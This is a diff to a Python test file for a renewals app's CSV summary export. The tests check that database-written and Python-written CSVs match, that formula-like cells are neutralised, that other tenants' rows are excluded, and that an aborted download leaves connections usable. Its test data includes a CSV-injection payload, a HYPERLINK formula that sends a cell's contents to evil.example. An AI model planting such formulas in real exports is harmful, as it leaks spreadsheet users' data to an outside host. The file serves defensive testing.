@@ -3,12 +3,15 @@ reports with the SPEC's columns, streamed; the ordering document (R-R14)."""
 
 from __future__ import annotations
 
+import asyncio
 import csv
 import io
 from datetime import timedelta
 from decimal import Decimal
 from html.parser import HTMLParser
 
+import pytest
+from sqlalchemy import event as sa_event
 from sqlalchemy import insert, select
 
 from core.app import principal_for_email
@@ -16,7 +19,7 @@ from core.models import Tenant
 from core.rls import EVERY_TENANT  # the test's own inspection: every tenant (core/rls.py)
 from plugins.renewals import downloads
 from plugins.renewals.models import Renewal
-from tests.conftest import link_path
+from tests.conftest import NOW, link_path
 from tests.renewals.helpers import TODAY, grant, load, renewal
 
 TECH = {"as_": "tech@acme.com"}
@@ -185,6 +188,142 @@ async def test_summary_report_columns_and_sources_r_r19(two_tenants):
     assert (await api.get("/renewals/report/summary.csv?source=everything", **TECH)).status_code == 400
     # another tenant's person gets their own (empty) report
     assert rows_of(await api.get("/renewals/report/summary.csv?source=pending", as_="tech@globex.com"))[1:] == []
+
+
+TRICKY = [
+    '=HYPERLINK("http://evil.example/?"&A2,"x")',
+    "+1, -2",
+    '-say "hi"',
+    "@SUM(1)",
+    " \u3000\uff1dFULL",
+    "\t=tab",
+    "\r\nCR LF",
+    "two\nlines, one cell",
+    "lead \x01 and \x01N and \x01, and \x02",
+    "Łódź – Ürümqi – 東京",
+    "",
+    "'already quoted",
+]
+
+
+@pytest.mark.parametrize("api", ["postgres"], indirect=True)
+async def test_summary_written_by_postgres_is_pythons_byte_for_byte_r_r19(two_tenants, monkeypatch):
+    """Issue 21: on PostgreSQL the summary is written by the database (COPY); for every source, in
+    the reader's language, over text a customer could type (formulas after blanks, quotes, commas,
+    line breaks, the COPY escapes' own bytes, non-ASCII, empty and NULL cells) and amounts in
+    several currencies (0, 2 and 3 decimals, half-up, negative), the bytes are the Python path's.
+    Only the caller's tenant: a renewal of another tenant quoted to the same email is not in it,
+    although this session's row-level-security scope is every tenant (the tenant filter is in the
+    statement itself)."""
+    api = two_tenants
+    amounts = [("USD", "12000.005"), ("JPY", "1234.5"), ("KWD", "1.25"), ("EUR", "-0.004"), ("XXX", "7")]
+    async with api.state.sessionmaker(info=EVERY_TENANT) as session, session.begin():
+        ids = dict((await session.execute(select(Tenant.key, Tenant.id))).all())
+        rows = []
+        for i, text in enumerate(TRICKY * 2):
+            currency, amount = amounts[i % len(amounts)]
+            start = TODAY + timedelta(days=(i % 5) * 10 - 20)
+            history = i % 3 == 0
+            rows.append(
+                {
+                    "tenant_id": ids["acme"],
+                    "support_number": f"T-{i:02d}" if i % 4 else f"{text}#{i}",
+                    "quote_number": text if i % 2 else "",
+                    "customer": text or "Customer",
+                    "end_user": TRICKY[(i + 1) % len(TRICKY)],
+                    "start_date": start,
+                    "end_date": start + timedelta(days=364),
+                    "currency": currency,
+                    "amount": Decimal(amount),
+                    "status": "ACCEPTED" if history else "OPEN",
+                    "po_number": (text if i % 2 else None) if history else None,
+                    "customer_reference": TRICKY[(i + 2) % len(TRICKY)],
+                    "support_notes": TRICKY[(i + 3) % len(TRICKY)] * 2,
+                    "quote_to_email": "tech@acme.com",
+                    "accepted_at": NOW if history else None,
+                    "auto_renew": i % 2 == 0,
+                    "last_updated_by": TRICKY[(i + 4) % len(TRICKY)],
+                }
+            )
+        other = dict(rows[1], tenant_id=ids["globex"], support_number="GLOBEX-ONLY", customer="Globex secret")
+        await session.execute(insert(Renewal), [*rows, other])
+    for i in (1, 2, 5):
+        await grant(api, f"T-{i:02d}", "fin@acme.com", "VIEWER")
+    await grant(api, "T-02", "exec@acme.com", "PARTICIPANT")
+    add = "mutation($sns: [String!]!) { addToCart(supportNumbers: $sns) { id } }"
+    await api.ok(add, {"sns": ["T-01", "T-02"]}, **TECH)
+    await api.ok("mutation($n: String!) { saveCart(name: $n) { id } }", {"n": '=cart, "one"\n2'}, **TECH)
+    await api.ok(add, {"sns": ["T-05"]}, **TECH)
+
+    async def both(source: str, language: str) -> bytes:
+        headers = {**api.headers("tech@acme.com"), "Accept-Language": language}
+        got = {}
+        for database in (True, False):
+            monkeypatch.setattr(api.state.settings, "database_csv", database)
+            resp = await api.client.get(f"/renewals/report/summary.csv?source={source}", headers=headers)
+            assert resp.status_code == 200, resp.text
+            got[database] = resp.content
+        assert got[True] == got[False], source
+        return got[True]
+
+    for source in downloads.SUMMARY_SOURCES:
+        body = await both(source, "en")
+        assert b"GLOBEX-ONLY" not in body and b"Globex secret" not in body
+    await api.sql("update people set locale = 'de' where email = 'tech@acme.com'")
+    german = await both("pending_and_history", "de")
+    rows_de = list(csv.reader(io.StringIO(german.decode())))
+    assert rows_de[0] != SUMMARY and len(rows_de[0]) == len(SUMMARY)  # the header in German
+    cells = [c for r in rows_de[1:] for c in r]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c != "-0.00"]  # a number stays one
+    assert {"12000.01", "1235", "1.250", "-0.00", "7.00"} <= set(cells)
+    assert "'" + TRICKY[0] in cells and TRICKY[7] in cells and TRICKY[8] in cells
+    assert len(rows_de) == 1 + len(rows)
+
+
+@pytest.mark.parametrize("api", ["postgres"], indirect=True)
+async def test_summary_left_half_read_leaves_the_connections_usable(two_tenants):
+    """A client that goes away mid-download (the ASGI server says ``http.disconnect`` after two
+    chunks): the COPY is ended before the session is closed, and the next exports still work."""
+    api = two_tenants
+    await bulk_insert(api, "acme", 20_000, "L")
+    app = api.client._transport.app
+    sent: list[dict] = []
+    two_chunks = asyncio.Event()
+
+    async def receive() -> dict:
+        await two_chunks.wait()
+        return {"type": "http.disconnect"}
+
+    async def send(message: dict) -> None:
+        sent.append(message)
+        if sum(m["type"] == "http.response.body" for m in sent) >= 2:
+            two_chunks.set()
+
+    headers = [(k.lower().encode(), v.encode()) for k, v in api.headers("tech@acme.com").items()]
+    scope = {
+        "type": "http",
+        "asgi": {"version": "3.0"},
+        "http_version": "1.1",
+        "method": "GET",
+        "scheme": "http",
+        "path": "/renewals/report/summary.csv",
+        "raw_path": b"/renewals/report/summary.csv",
+        "query_string": b"source=pending",
+        "root_path": "",
+        "headers": [(b"host", b"test"), *headers],
+        "client": ("127.0.0.1", 1),
+        "server": ("test", 80),
+    }
+    invalidated: list[object] = []
+    sa_event.listen(api.state.engine.sync_engine.pool, "invalidate", lambda *a: invalidated.append(a))
+    await asyncio.wait_for(app(scope, receive, send), 30)
+    # the driver's COPY task ended before the session was closed; no connection was thrown away
+    assert not [t for t in asyncio.all_tasks() if "DatabaseCsv._copy" in repr(t.get_coro())]
+    assert invalidated == []
+    body = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
+    assert sent[0]["status"] == 200 and body.startswith(b"Support Contract Number") and len(body) < 2_000_000
+    for _ in range(3):
+        assert len(rows_of(await api.get("/renewals/report/summary.csv?source=pending", **TECH))) == 20_001
 
 
 async def test_detailed_report_pending_only_with_lines_r_r20(two_tenants):
